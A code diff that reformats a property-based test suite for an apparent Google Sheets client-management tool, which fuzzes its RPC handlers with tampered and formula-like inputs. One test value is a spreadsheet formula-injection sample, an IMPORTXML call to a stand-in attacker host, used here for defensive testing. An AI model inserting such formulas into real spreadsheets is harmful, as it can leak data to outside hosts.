@@ -37,7 +37,11 @@ function tampered(base: unknown, depth = 0): fc.Arbitrary<unknown> {
       : hostileValue;
   const rebuilt = fc
     .record({
-      changed: fc.subarray(keys, { maxLength: Math.min(2, keys.length) }).chain((changed) => fc.tuple(...changed.map((key) => replacement(key).map((value): [string, unknown] => [key, value])))), // prettier-ignore
+      changed: fc
+        .subarray(keys, { maxLength: Math.min(2, keys.length) })
+        .chain((changed) =>
+          fc.tuple(...changed.map((key) => replacement(key).map((value): [string, unknown] => [key, value]))),
+        ),
       removed: fc.subarray(keys, { maxLength: Math.min(1, keys.length) }),
       extras: fc.array(fc.tuple(hostileKey, hostileValue), { maxLength: 1 }),
     })
@@ -47,7 +51,8 @@ function tampered(base: unknown, depth = 0): fc.Arbitrary<unknown> {
       for (const [key, value] of [...changed, ...extras]) entries.set(key, value);
       if (Array.isArray(base)) return [...entries].filter(([k]) => /^\d+$/.test(k)).map(([, v]) => v);
       const out: Record<string, unknown> = {};
-      for (const [k, v] of entries) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true }); // prettier-ignore
+      for (const [k, v] of entries)
+        Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
       return out;
     });
   return fc.oneof({ weight: 8, arbitrary: rebuilt }, { weight: 1, arbitrary: hostileValue });
@@ -55,7 +60,19 @@ function tampered(base: unknown, depth = 0): fc.Arbitrary<unknown> {
 
 /** Text a user could type that Sheets would run or convert if it were written as a value. */
 const formulaLike = fc.oneof(
-  fc.constantFrom('=1+1', '=IMPORTXML("https://evil.example/x","//a")', '+1 call', '-5 kg', '@va', '007', 'TRUE', '12%', '3/4', "'quoted", '#N/A'), // prettier-ignore
+  fc.constantFrom(
+    '=1+1',
+    '=IMPORTXML("https://evil.example/x","//a")',
+    '+1 call',
+    '-5 kg',
+    '@va',
+    '007',
+    'TRUE',
+    '12%',
+    '3/4',
+    "'quoted",
+    '#N/A',
+  ),
   fc
     .constantFrom('=', '+', '-', '@')
     .chain((lead) => fc.string({ minLength: 1, maxLength: 8 }).map((s) => lead + s)),
@@ -72,10 +89,21 @@ function textual(base: Record<string, unknown>, fields: string[]): fc.Arbitrary<
     .map((pairs) => ({ ...base, ...Object.fromEntries(pairs.filter(([, text]) => text !== undefined)) }));
 }
 
-const CHECK_IN = { ...checkIn('C-0001', '2024-06-10'), enteredBy: 'Val', replace: false, confirmed: [] as string[] }; // prettier-ignore
+const CHECK_IN = {
+  ...checkIn('C-0001', '2024-06-10'),
+  enteredBy: 'Val',
+  replace: false,
+  confirmed: [] as string[],
+};
 
 const PAYMENT = { clientId: 'C-0001', due: '2024-06-01', paid: '2024-06-03', amount: '2000', note: 'June' };
-const REQUEST = { clientId: 'C-0001', date: '2024-06-05', request: 'Logo', decision: 'Change order', fee: '150' }; // prettier-ignore
+const REQUEST = {
+  clientId: 'C-0001',
+  date: '2024-06-05',
+  request: 'Logo',
+  decision: 'Change order',
+  fee: '150',
+};
 const EDIT = {
   clientId: 'C-0001',
   clientType: 'Micromanager',
@@ -113,7 +141,15 @@ const DECIDE = [
   { clientId: 'C-0001', row: 2, request: 'New logo', decision: 'Declined', fee: '', hours: '' },
   { clientId: 'C-0001', row: 2, request: 'New logo', decision: 'Included in scope', fee: '', hours: '3' },
 ];
-const CONVERSATION = { clientId: 'C-0001', date: '2024-06-12', reason: 'Unhappy', ownPart: 'I moved our call', outcome: 'Stay', listen: 'What went wrong?', restate: 'Tuesdays' }; // prettier-ignore
+const CONVERSATION = {
+  clientId: 'C-0001',
+  date: '2024-06-12',
+  reason: 'Unhappy',
+  ownPart: 'I moved our call',
+  outcome: 'Stay',
+  listen: 'What went wrong?',
+  restate: 'Tuesdays',
+};
 const NEED = { clientId: 'C-0001', date: '2024-06-12', need: 'Help hiring a VA' };
 const clientId = fc.tuple(fc.oneof(fc.constant('C-0001'), hostileValue));
 const RAISE = { clientId: 'C-0001', from: '2024-06-01', monthlyFee: '2,200', note: 'Yearly review' };
@@ -132,10 +168,35 @@ const CAMPAIGN: Record<
   rpcScanForAdoption: { args: fc.array(hostileValue, { maxLength: 2 }), mutation: false },
   rpcGetBoot: { args: fc.array(hostileValue, { maxLength: 2 }), mutation: false },
   // Each self-check builds and deletes a probe sheet (about a second here): a tenth of the calls.
-  rpcRunSelfCheck: { args: fc.tuple(tampered({ token: null, via: 'rpc' })), mutation: false, runs: Math.ceil(RUNS / 10) }, // prettier-ignore
-  rpcSaveCheckIn: { args: fc.tuple(fc.oneof(tampered(CHECK_IN), textual({ ...CHECK_IN, replace: true }, ['wins', 'blockers', 'notes', 'enteredBy']))), mutation: true }, // prettier-ignore
-  rpcSkipCheckIn: { args: fc.tuple(tampered({ clientId: 'C-0001', weekOf: '2024-06-10', draft: { Revenue: '5', notes: 'n' } })), mutation: true }, // prettier-ignore
-  rpcCreateClient: { args: fc.tuple(fc.oneof(tampered({ ...SAMPLE_CLIENT, name: 'Bee Ltd' }), textual({ ...SAMPLE_CLIENT, name: 'Bee Ltd' }, ['name', 'program', 'definitionOfSuccess', 'scope']))), mutation: true }, // prettier-ignore
+  rpcRunSelfCheck: {
+    args: fc.tuple(tampered({ token: null, via: 'rpc' })),
+    mutation: false,
+    runs: Math.ceil(RUNS / 10),
+  },
+  rpcSaveCheckIn: {
+    args: fc.tuple(
+      fc.oneof(
+        tampered(CHECK_IN),
+        textual({ ...CHECK_IN, replace: true }, ['wins', 'blockers', 'notes', 'enteredBy']),
+      ),
+    ),
+    mutation: true,
+  },
+  rpcSkipCheckIn: {
+    args: fc.tuple(
+      tampered({ clientId: 'C-0001', weekOf: '2024-06-10', draft: { Revenue: '5', notes: 'n' } }),
+    ),
+    mutation: true,
+  },
+  rpcCreateClient: {
+    args: fc.tuple(
+      fc.oneof(
+        tampered({ ...SAMPLE_CLIENT, name: 'Bee Ltd' }),
+        textual({ ...SAMPLE_CLIENT, name: 'Bee Ltd' }, ['name', 'program', 'definitionOfSuccess', 'scope']),
+      ),
+    ),
+    mutation: true,
+  },
   rpcAdoptTabs: { args: fc.tuple(tampered(['Weights', 'My notes'])), mutation: true },
   rpcRecordPayment: {
     args: fc.tuple(fc.oneof(tampered(PAYMENT), textual(PAYMENT, ['note']))),
@@ -146,20 +207,58 @@ const CAMPAIGN: Record<
     mutation: true,
   },
   rpcGetClientEdit: { args: clientId, mutation: false },
-  rpcEditClient: { args: fc.tuple(fc.oneof(tampered(EDIT), textual(EDIT, ['definitionOfSuccess', 'scope']))), mutation: true, fresh: true }, // prettier-ignore
+  rpcEditClient: {
+    args: fc.tuple(fc.oneof(tampered(EDIT), textual(EDIT, ['definitionOfSuccess', 'scope']))),
+    mutation: true,
+    fresh: true,
+  },
   rpcGetInvoices: { args: clientId, mutation: false },
-  rpcCreateInvoice: { args: fc.tuple(fc.oneof(tampered(INVOICE), textual(INVOICE, ['note']))), mutation: true, fresh: true }, // prettier-ignore
-  rpcPayInvoice: { args: fc.tuple(fc.oneof(tampered(PAY), textual(PAY, ['note']))), mutation: true, fresh: true }, // prettier-ignore
-  rpcDecideRequest: { args: fc.tuple(fc.constantFrom(...DECIDE).chain((form) => tampered(form))), mutation: true, fresh: true }, // prettier-ignore
+  rpcCreateInvoice: {
+    args: fc.tuple(fc.oneof(tampered(INVOICE), textual(INVOICE, ['note']))),
+    mutation: true,
+    fresh: true,
+  },
+  rpcPayInvoice: {
+    args: fc.tuple(fc.oneof(tampered(PAY), textual(PAY, ['note']))),
+    mutation: true,
+    fresh: true,
+  },
+  rpcDecideRequest: {
+    args: fc.tuple(fc.constantFrom(...DECIDE).chain((form) => tampered(form))),
+    mutation: true,
+    fresh: true,
+  },
   rpcGetClientNotes: { args: clientId, mutation: false },
-  rpcSaveConversation: { args: fc.tuple(fc.oneof(tampered(CONVERSATION), textual(CONVERSATION, ['reason', 'ownPart', 'outcome', 'listen', 'restate']))), mutation: true }, // prettier-ignore
+  rpcSaveConversation: {
+    args: fc.tuple(
+      fc.oneof(
+        tampered(CONVERSATION),
+        textual(CONVERSATION, ['reason', 'ownPart', 'outcome', 'listen', 'restate']),
+      ),
+    ),
+    mutation: true,
+  },
   rpcSaveNeed: { args: fc.tuple(fc.oneof(tampered(NEED), textual(NEED, ['need']))), mutation: true },
   rpcMakeProgressReport: { args: clientId, mutation: true, runs: Math.ceil(RUNS / 4) },
   rpcGetClientProfit: { args: fc.tuple(fc.oneof(fc.constant('C-0001'), hostileValue)), mutation: false },
   rpcGetMetricHistory: { args: fc.array(hostileValue, { maxLength: 2 }), mutation: false },
-  rpcRecordRaise: { args: fc.tuple(fc.oneof(tampered(RAISE), textual(RAISE, ['note']))), mutation: true }, // prettier-ignore
-  rpcSetClientHours: { args: fc.tuple(tampered({ clientId: 'C-0001', hoursPerMonth: '12' })), mutation: true }, // prettier-ignore
-  rpcOffboardClient: { args: fc.tuple(tampered({ clientId: 'C-0001', endDate: '2024-09-30', reason: 'Poor fit', noticeDate: '2024-08-01', endAtPeriodClose: false })), mutation: true }, // prettier-ignore
+  rpcRecordRaise: { args: fc.tuple(fc.oneof(tampered(RAISE), textual(RAISE, ['note']))), mutation: true },
+  rpcSetClientHours: {
+    args: fc.tuple(tampered({ clientId: 'C-0001', hoursPerMonth: '12' })),
+    mutation: true,
+  },
+  rpcOffboardClient: {
+    args: fc.tuple(
+      tampered({
+        clientId: 'C-0001',
+        endDate: '2024-09-30',
+        reason: 'Poor fit',
+        noticeDate: '2024-08-01',
+        endAtPeriodClose: false,
+      }),
+    ),
+    mutation: true,
+  },
 };
 
 /**
@@ -169,14 +268,29 @@ const CAMPAIGN: Record<
 function workbook(): Harness {
   const h = harness();
   h.sheet('Sheet1').setName('My notes');
-  h.sheet('My notes').getRange('A1:B2').setValues([['Rent', 1200], ['=1+1', "'007"]]); // prettier-ignore
+  h.sheet('My notes')
+    .getRange('A1:B2')
+    .setValues([
+      ['Rent', 1200],
+      ['=1+1', "'007"],
+    ]);
   const log = h.emu.spreadsheet.insertSheet('Weights');
-  log.getRange('A1:B3').setValues([['Date', 'Weight'], ['2024-05-06', 90], ['2024-05-13', 89]]); // prettier-ignore
+  log.getRange('A1:B3').setValues([
+    ['Date', 'Weight'],
+    ['2024-05-06', 90],
+    ['2024-05-13', 89],
+  ]);
   h.call('menuSetUpWorkbook');
   h.call('rpcCreateClient', SAMPLE_CLIENT);
   h.call('rpcSaveCheckIn', checkIn('C-0001', '2024-06-03'));
   h.call('rpcCreateInvoice', { clientId: 'C-0001', due: '2024-05-01', amount: '2000', note: '' });
-  h.call('rpcLogRequest', { clientId: 'C-0001', date: '2024-06-03', request: 'New logo', decision: 'Open', fee: '' }); // prettier-ignore
+  h.call('rpcLogRequest', {
+    clientId: 'C-0001',
+    date: '2024-06-03',
+    request: 'New logo',
+    decision: 'Open',
+    fee: '',
+  });
   h.call('rpcSaveConversation', CONVERSATION);
   h.call('rpcSaveNeed', NEED);
   return h;
@@ -198,7 +312,12 @@ function changedCells(before: ReturnType<Harness['snapshot']>, after: ReturnType
       row.forEach((value, c) => {
         const old = before[name];
         const formula = sheet.formulas[r][c];
-        if (old && JSON.stringify(old.values[r]?.[c]) === JSON.stringify(value) && old.formulas[r]?.[c] === formula) return; // prettier-ignore
+        if (
+          old &&
+          JSON.stringify(old.values[r]?.[c]) === JSON.stringify(value) &&
+          old.formulas[r]?.[c] === formula
+        )
+          return;
         out.push({ where: `${name} R${r + 1}C${c + 1}`, value, formula });
       }),
     );
